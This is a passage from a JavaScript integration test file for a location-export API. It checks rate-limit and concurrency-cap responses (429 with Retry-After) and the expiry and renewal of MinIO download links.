    const create = () => service.request('POST', '/locations/exports', { body: { format: 'json' }, clientId: 'rsp-q' });
    await service.settled((await create()).body.requestId, 'rsp-q');
    await service.settled((await create()).body.requestId, 'rsp-q');
    const refused = await create();
    expect(refused.status).toBe(429);
    expect(refused.body.error.code).toBe('RATE_LIMIT_EXCEEDED');
    const retryAfter = Number(refused.headers['retry-after']);
    expect(retryAfter).toBeGreaterThanOrEqual(1);
    expect(retryAfter).toBeLessThanOrEqual(3600);
  });

  it('more unfinished exports than the cap: 429 until one finishes', async () => {
    service.peers.lineDelayMs = 1500;
    try {
      const create = () =>
        service.request('POST', '/locations/exports', { body: { format: 'json' }, clientId: 'rsp-cap' });
      const first = await create();
      expect(first.status).toBe(202);
      const second = await create();
      expect(second.status).toBe(429);
      expect(second.body.error.message).toContain('unfinished');
      expect(second.headers['retry-after']).toBe('30');
      await service.settled(first.body.requestId, 'rsp-cap');
    } finally {
      service.peers.lineDelayMs = 0;
    }
  });

  it('a link expires at downloadExpiresAt: MinIO answers 403 after it, and a fresh link works', async () => {
    const requestId = (
      await service.request('POST', '/locations/exports', { body: { format: 'csv' }, clientId: 'rsp-ttl' })
    ).body.requestId;
    const done = await service.settled(requestId, 'rsp-ttl');
    expect(Date.parse(done.downloadExpiresAt) - Date.now()).toBeLessThanOrEqual(2000);
    await waitFor('the link to expire', async () => (await fetch(done.exportUrl)).status === 403, 10_000);
    const renewed = await service.request('POST', `/locations/exports/${requestId}/link`, { clientId: 'rsp-ttl' });
    expect((await fetch(renewed.body.exportUrl)).status).toBe(200);
  });
});
